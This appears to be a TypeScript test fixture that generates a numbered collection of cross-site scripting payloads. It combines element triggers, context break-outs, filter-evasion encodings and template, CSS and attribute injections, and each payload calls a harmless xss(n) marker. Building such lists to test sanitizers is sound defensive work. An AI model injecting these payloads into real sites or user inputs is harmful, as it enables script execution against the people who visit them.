/**
 * Texts that become markup or script wherever a page takes them for more than text. Each calls `xss` with its own
 * number, so that whatever runs names itself: `bodies × ways out × disguises`, and those that need no element at all.
 */

/** An element and what makes it run, by itself or when somebody comes near; @ is the call. */
const bodies = [
  '<script>@</script>',
  '<script src=data:,@></script>',
  '<script type=module>@</script>',
  '<img src=x onerror=@>',
  '<img src onerror=@ data-x>',
  '<img srcset=x onerror=@>',
  '<image src=x onerror=@>',
  '<svg onload=@>',
  '<svg/onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onbegin=@ attributeName=x>',
  '<svg><a href="javascript:@"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=@>#x">',
  '<svg><style><img src=x onerror=@></style>',
  '<math><mtext><img src=x onerror=@></mtext></math>',
  '<math><a href="javascript:@">x</a></math>',
  '<body onload=@>',
  '<body onpageshow=@>',
  '<iframe onload=@>',
  '<iframe src="javascript:@">',
  '<iframe srcdoc="<img src=x onerror=parent.@>">',
  '<object data="javascript:@">',
  '<object onerror=@ data=x>',
  '<embed src="javascript:@">',
  '<video src=x onerror=@>',
  '<video><source onerror=@>',
  '<audio src=x onerror=@>',
  '<details open ontoggle=@>x',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<textarea autofocus onfocus=@>',
  '<button autofocus onfocus=@>x',
  '<a autofocus href=# onfocus=@>x</a>',
  '<a href="javascript:@">x</a>',
  '<a href=x onmouseover=@>x</a>',
  '<a href=" &#1; javascript:@">x</a>',
  '<form action="javascript:@"><button>x</button></form>',
  '<button formaction="javascript:@" form=x>x</button>',
  '<marquee onstart=@>x',
  '<style onload=@></style>',
  '<style>*{animation:a}@keyframes a{}</style><b onanimationstart=@>',
  '<link rel=stylesheet href=x onerror=@>',
  '<link rel=preload as=script href=data:,@ onload=@>',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<base href="javascript:/a/-@//">',
  '<template><img src=x onerror=@></template>',
  '<xss onpointerenter=@ style=position:fixed;inset:0>x',
  '<x contenteditable autofocus onfocus=@>x',
  '<dialog open oncancel=@ onclose=@>x',
  '<div popover id=p ontoggle=@>x',
  '<table background="javascript:@"><tr><td>x',
  '<isindex type=image src=x onerror=@>',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<svg></p><style><a id="</style><img src=x onerror=@>">',
  '<listing>&lt;img src=x onerror=@&gt;</listing>',
] as const;

/** Out of what the text may stand in: an attribute, an element that holds text alone, a comment, a script. */
const waysOut = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</option></select>',
  '-->',
  ']]>',
  '</p></td></tr></table>',
] as const;

type Disguise = (text: string) => string;

const eachLetter = (text: string, as: (code: number) => string): string =>
  [...text].map((letter) => as(letter.codePointAt(0) ?? 0)).join('');
const hex = (code: number, width: number): string => code.toString(16).padStart(width, '0');

/** How the same text looks to a filter that does not know all ways of writing it. */
const disguises: readonly Disguise[] = [
  (text) => text.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replace(/on(\w+)=/g, 'oN$1\t='),
  (text) => text.replace(/<(\w+) /g, '<$1/x=">"/'),
  (text) => text.replace(/<(\w+) /g, '<$1\f'),
  (text) => text.replaceAll('javascript:', 'java\tscript:'),
  (text) => text.replaceAll('javascript:', '&#106;avascript&colon;'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#x3e;'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => eachLetter(text, (code) => (code < 0x40 ? `&#${code};` : String.fromCharCode(code))),
  (text) =>
    eachLetter(text, (code) => (code > 0x20 && code < 0x7f ? String.fromCodePoint(code + 0xfee0) : ' ')),
  (text) => `<${text}`,
  (text) => text.replace('<', '<\u200b'),
  (text) => eachLetter(text, (code) => (code < 0x40 ? `%u${hex(code, 4)}` : String.fromCharCode(code))),
];

/** No element needed: templates, addresses, scripts and style in which the text may stand, names that objects have. */
const bare = [
  'javascript:@',
  'JaVaScRiPt:@//',
  'data:text/html,<script>parent.@</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDApPC9zY3JpcHQ+',
  'vbscript:@',
  '{{constructor.constructor("@")()}}',
  '{{$on.constructor("@")()}}',
  '$\u007b@}',
  '#{@}',
  '<%= @ %>',
  '[[@]]',
  '`;@;`',
  '";@;"',
  "';@;'",
  '\\";@;//',
  '*/@;/*',
  '\u2028@\u2029',
  '"-@-"',
  "'-@-'",
  '+ADw-script+AD4-@+ADw-/script+AD4-',
  'expression(@)',
  'url("javascript:@")',
  '};*{background:url(javascript:@)}',
  'x" onfocus=@ autofocus x="',
  "x' onmouseover=@ x='",
  'x onfocus=@ tabindex=0 autofocus',
  '" style="animation-name:x" onanimationstart="@',
  '" accesskey="x" onclick="@" x="',
  '"><form id=body><input name=firstChild onfocus=@ autofocus>',
  '<form id=document><input name=cookie>@',
  '<a id=h></a><a id=h name=x href="javascript:@">',
  '<!--#exec cmd="@"-->',
  '<?xml-stylesheet href="javascript:@"?>',
  '<![CDATA[<img src=x onerror=@>]]>',
  '{"@type":"<img src=x onerror=@>"}',
  '\n\nevent: live\ndata: <img src=x onerror=@>\n\n',
  '__proto__ @',
  'constructor @',
] as const;

export type Payload = { id: number; text: string };

/** Body by body with three ways out and three disguises, in turn, so that all of them meet many bodies. */
function* texts(): Generator<string> {
  for (const [at, body] of bodies.entries()) {
    yield body;
    for (let turn = 0; turn < 3; turn++) {
      yield waysOut[1 + ((at * 3 + turn) % (waysOut.length - 1))] + body;
      yield disguised(body, at * 5 + turn);
    }
    yield disguised(waysOut[1 + (at % (waysOut.length - 1))] + body, at * 7 + 3);
    yield `${body.slice(0, -1)}//`;
  }
  yield* bare;
}

const disguised = (text: string, at: number): string => (disguises[at % disguises.length] as Disguise)(text);

export const payloads: readonly Payload[] = [...texts()].map((text, index) => ({
  id: index + 1,
  text: text.replaceAll('@', `xss(${index + 1})`),
}));
